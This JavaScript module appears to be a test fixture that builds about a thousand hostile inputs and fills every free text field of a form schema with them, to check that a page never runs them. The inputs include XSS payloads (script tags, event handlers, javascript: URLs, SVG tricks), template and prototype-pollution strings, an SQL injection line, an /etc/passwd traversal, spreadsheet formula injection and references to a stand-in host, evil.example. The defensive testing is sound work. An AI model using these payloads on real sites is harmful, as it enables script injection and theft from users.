// What somebody types who wants a page to run it: a thousand texts, each of which would raise `window.executed` if a page took it as anything but text.
const kMark = 'window.executed=1';
const kSeeds = [
  `<script>${kMark}</script>`, `"><script>${kMark}</script>`, `'><script>${kMark}</script>`, `</textarea><script>${kMark}</script>`, `</title><script>${kMark}</script>`, `<ScRiPt>${kMark}</sCrIpT>`, `<script src=data:text/javascript,${kMark}></script>`,
  `<img src=x onerror=${kMark}>`, `"><img src=x onerror=${kMark}>`, `<img src="x" onerror="alert(1);${kMark}">`, `<img/src=x/onerror=${kMark}>`, `<IMG SRC="javascript:${kMark}">`, `<img src=x:x onerror="confirm(1)">`,
  `<svg onload=${kMark}>`, `<svg/onload=${kMark}//`, `<svg><script>${kMark}</script></svg>`, `<svg><animate onbegin=${kMark} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${kMark}"><text y=20>x</text></a></svg>`, `<svg><foreignObject><body onload=${kMark}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${kMark}>`, `<iframe src="javascript:${kMark}"></iframe>`, `<iframe srcdoc="<script>parent.executed=1</script>"></iframe>`, `<object data="javascript:${kMark}"></object>`, `<embed src="javascript:${kMark}">`,
  `<a href="javascript:${kMark}">x</a>`, `javascript:${kMark}`, `JaVaScRiPt:${kMark}`, `java\tscript:${kMark}`, `data:text/html,<script>${kMark}</script>`, `vbscript:msgbox(1)`, `//evil.example/x.js`, `https://evil.example/?${kMark}`,
  `<body onload=${kMark}>`, `<input autofocus onfocus=${kMark}>`, `<select autofocus onfocus=${kMark}>`, `<textarea autofocus onfocus=${kMark}>`, `<details open ontoggle=${kMark}>`, `<marquee onstart=${kMark}>`, `<video><source onerror=${kMark}>`, `<audio src=x onerror=${kMark}>`,
  `<form action="javascript:${kMark}"><button>x`, `<meta http-equiv=refresh content="0;url=javascript:${kMark}">`, `<base href="https://evil.example/">`, `<link rel=stylesheet href="https://evil.example/x.css">`, `<style>@import "https://evil.example/x.css";</style>`, `<div style="background:url(javascript:${kMark})">`,
  `" onmouseover="${kMark}`, `' onmouseover='${kMark}`, `" autofocus onfocus="${kMark}" x="`, '`-' + kMark + '-`', `";${kMark};//`, `';${kMark};//`, `\\";${kMark};//`, `</script><script>${kMark}</script>`, `--><script>${kMark}</script>`, `]]><script>${kMark}</script>`,
  '{{constructor.constructor("window.executed=1")()}}', '${window.executed=1}', '#{window.executed=1}', '<%= window.executed=1 %>', '{{7*7}}', '${{7*7}}', '{0}{1}{2}{3}', '%s%n%x', '{"__proto__":{"executed":1}}', '__proto__', 'constructor', 'toString', 'undefined', 'null', 'NaN',
  `<xss onpointerenter=${kMark} style=display:block>x`, `<x contenteditable onblur=${kMark}>`, `<template><script>${kMark}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${kMark}>">`, `<b>bold</b>&lt;i&gt;&amp;&quot;&#39;`, `&lt;script&gt;${kMark}&lt;/script&gt;`, `&#60;img src=x onerror=${kMark}&#62;`, `\\u003cscript\\u003e${kMark}\\u003c/script\\u003e`,
  '\u202etxt.exe gnp.\u202c', '\u2066\u2067isolate\u2069\u2069', '\u200bzero\u200bwidth\u200d\ufeff', 'W'.repeat(60), '货'.repeat(60), 'a\u0301\u0302\u0303\u0304\u0305\u0306\u0307'.repeat(6), '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67', '"\'`<>&\\/', "'; DROP TABLE declaration; --", '../../../../etc/passwd', 'ＦＵＬＬ<ｓｃｒｉｐｔ>', '=HYPERLINK("https://evil.example")', '@SUM(1+1)*cmd|x',
];
const kAround = [(x) => x, (x) => `A ${x}`, (x) => `${x} Z`, (x) => `"${x}"`, (x) => `'${x}'`, (x) => `<b>${x}</b>`, (x) => `\u202e${x}`, (x) => `<!--${x}-->`, (x) => x.toUpperCase(), (x) => x.replace(/</g, '<\u200b'), (x) => `<img alt="${x}">`, (x) => `<a title='${x}'>`];

/** A thousand different ones. */
export const payloads = [...new Set(kAround.flatMap((around) => kSeeds.map(around)))].slice(0, 1000);

/** Hands them out: each time the first not yet used that fits into so many characters whole (what is cut runs no more); all used, any that fits. */
export class Payloads {
  used = new Set();
  next = 0;
  take(longest = 1000) {
    const fits = payloads.find((text) => !this.used.has(text) && text.length <= longest);
    if (fits) { this.used.add(fits); return fits; }
    for (let i = 0; i < payloads.length; ++i) {
      const text = payloads[(this.next++) % payloads.length];
      if (text.length <= longest) return text;
    }
    return '<b>'.slice(0, longest);
  }
}

/** A form of the schema with a payload in every text it has; `lines` rows in each group. Places of `keep` stay as they are. */
export function hostileForm(schema, keep, lines, texts) {
  const deref = (one) => (one.$ref ? schema.$defs[one.$ref.slice('#/$defs/'.length)] : one);
  const fill = (object, path, depth) => {
    const record = {};
    for (const [name, inner] of Object.entries(object.properties ?? {})) {
      if (path === '' && name in keep) record[name] = keep[name];
      else if (inner.type === 'array' && inner.items) { if (depth < 3) record[name] = Array.from({ length: depth ? 1 : lines }, () => fill(deref(inner.items), `${path}/${name}`, depth + 1)); }
      else if (inner.type === 'string' && !inner.pattern && !inner['x-list'] && !inner.format) record[name] = texts.take(inner.maxLength ?? 200);
    }
    return record;
  };
  return fill(schema, '', 0);
}
